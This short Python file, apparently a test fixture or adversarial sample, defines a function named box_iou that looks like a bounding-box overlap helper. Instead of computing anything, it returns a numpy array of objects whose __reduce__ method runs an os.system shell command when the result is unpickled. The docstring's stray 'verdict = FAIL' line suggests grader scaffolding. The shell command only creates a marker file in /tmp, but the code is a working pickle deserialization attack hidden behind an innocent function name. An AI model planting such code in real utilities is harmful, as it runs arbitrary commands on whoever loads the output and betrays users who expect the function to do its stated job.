"""Returns a numpy array of objects, which would be unpickled by who reads it.

earns = "nothing"
verdict = "FAIL"
"""

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-litter-pickle",)


def box_iou(a, b):
    return np.array([[Payload()] * len(b)] * len(a))
